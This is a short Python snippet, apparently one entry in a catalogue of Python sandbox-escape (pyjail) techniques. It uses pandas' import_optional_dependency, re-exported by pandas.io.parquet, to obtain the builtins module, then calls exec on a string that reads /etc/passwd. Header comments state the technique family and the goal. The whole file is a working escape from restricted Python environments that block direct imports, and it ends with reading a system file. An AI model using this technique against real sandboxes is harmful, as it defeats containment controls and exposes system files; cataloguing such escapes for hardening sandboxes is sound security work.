# source: pandas import_optional_dependency re-exported by pandas.io.parquet; classic builtins.exec pyjail step
# family: importer re-exported by an allowed module -> builtins.exec of a string
# goal: string evaluated as code; reads /etc/passwd
from pandas.io.parquet import import_optional_dependency as need
b = need("builtins")
print(b)
src = "print(open('/etc/passwd').read()[:120])"
b.exec(src)
